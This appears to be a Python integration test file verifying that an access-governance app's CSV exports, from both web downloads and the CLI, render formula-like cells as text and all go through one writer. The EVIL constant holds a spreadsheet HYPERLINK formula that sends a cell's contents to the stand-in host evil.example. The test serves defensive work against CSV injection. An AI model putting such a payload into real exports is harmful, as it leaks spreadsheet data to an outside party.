"""Every CSV Gatehouse exports is opened by the platform team in a spreadsheet, and its cells hold what people typed:
each export goes through the one writer (core/csv_export.py), and a cell that looks like a formula opens as text in
every one of them, in the app's download and the command line's alike."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

from core import actions, audit
from core.context import Gatehouse
from core.reads import audit_trail, reviews
from core.reads.audit_trail import AuditFilter
from tests.integration.test_cli import gatehouse_cli  # noqa: F401  (fixture)
from tests.integration.test_reviews import member, prepared, rows

ROOT = Path(__file__).resolve().parents[2]
Cli = Callable[..., subprocess.CompletedProcess[str]]
EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Open evidence")'
# Where an export leaves Gatehouse: the page's download button (and the core function it calls), and the command.
PAGE_DOWNLOADS = {
    "pages/platform.py": "cached.read_text(audit_trail.export,",
    "pages/ui/reviews_view.py": "cached.read_text(reviews.report_csv,",
}


def _cells(text: str) -> list[str]:
    return [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]


def test_a_formula_in_every_export_opens_as_text(gatehouse: Gatehouse, gatehouse_cli: Cli) -> None:  # noqa: F811
    campaign = prepared(gatehouse)
    bob, dave = member(gatehouse, "bob"), member(gatehouse, "dave")
    # an admin's reason in the access review's report, and a summary in the audit trail
    actions.review_grant(gatehouse, bob, rows(gatehouse, "bob")[("carol", ())].item_id, "revoke", reason=EVIL)
    with gatehouse.session() as session:
        audit.record(session, "dave", "formula-test", EVIL)

    exports = {
        "audit trail (Platform -> Audit trail -> Download CSV)": "".join(
            gatehouse.run(lambda session: list(audit_trail.export(session, dave, "csv", AuditFilter())))
        ),
        "audit trail (gatehouse audit export)": gatehouse_cli("audit", "export", "--format", "csv").stdout,
        "access review report (Platform -> Reviews -> Download the report)": "".join(
            gatehouse.run(lambda session: list(reviews.report_csv(session, dave, campaign)))
        ),
        "access review report (gatehouse reviews report)": gatehouse_cli("reviews", "report", str(campaign)).stdout,
    }
    for name, text in exports.items():
        cells = _cells(text)
        assert f"'{EVIL}" in cells, name  # opened as text ...
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], name  # ... and nothing runs


def test_every_csv_leaves_through_the_one_writer() -> None:
    """The list above is every export: nothing in core or pages writes CSV but core/csv_export.py (the demo's seed
    files are data, not an export), and the pages offer CSV only where the test above looks."""
    sources = {str(p.relative_to(ROOT)): p.read_text() for d in ("core", "pages") for p in (ROOT / d).rglob("*.py")}
    writers = sorted(name for name, text in sources.items() if re.search(r"csv\.(writer|DictWriter)\(", text))
    assert writers == ["core/csv_export.py"]  # reading CSV (a preview counts a first line's columns) is no export
    assert sorted(name for name, text in sources.items() if "to_csv(" in text) == ["core/seed.py"]
    downloads = sorted(name for name, text in sources.items() if "text/csv" in text)
    assert downloads == sorted(PAGE_DOWNLOADS)
    for name, call in PAGE_DOWNLOADS.items():
        assert call in sources[name]
